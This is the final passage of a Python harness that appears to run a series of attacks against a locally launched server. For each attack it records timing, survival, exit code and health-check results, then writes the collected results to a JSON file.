            # the attack's own requests start together: the slowest is the wall time
            wall = max(q["seconds"] for q in reqs) if reqs else m.t1 - m.t0
            rec["wall_seconds"] = round(wall, 3)
            time.sleep(0.2)
            rec["alive"] = srv.alive()
            rec["killed_at_cap"] = srv.killed_at_cap
            if rec["alive"]:
                after = request(srv.port, "GET", "/healthz", timeout=HEALTH_TIMEOUT, source=VICTIM)
                rec["healthz_after"] = summarize(after)
            else:
                rec["exit_code"] = srv.proc.returncode
            rec["monitor"] = m.report()
            for q in res.get("requests", []):
                q["seconds"] = round(q["seconds"], 3)
            rec["result"] = res
        except Exception as e:  # keep going: one broken attack must not hide the others
            rec["harness_error"] = f"{type(e).__name__}: {e}"
            log(f"  harness error: {rec['harness_error']}")
        finally:
            if srv:
                srv.stop()
        results.append(rec)
        print(row(rec), flush=True)
    if ARGS.out:
        with open(ARGS.out, "w") as f:
            json.dump({"label": ARGS.label, "binary": binary, "started": time.strftime("%Y-%m-%dT%H:%M:%S%z"),
                       "machine": {"cpus": os.cpu_count()}, "attacks": results}, f, indent=2)
            f.write("\n")


if __name__ == "__main__":
    main()
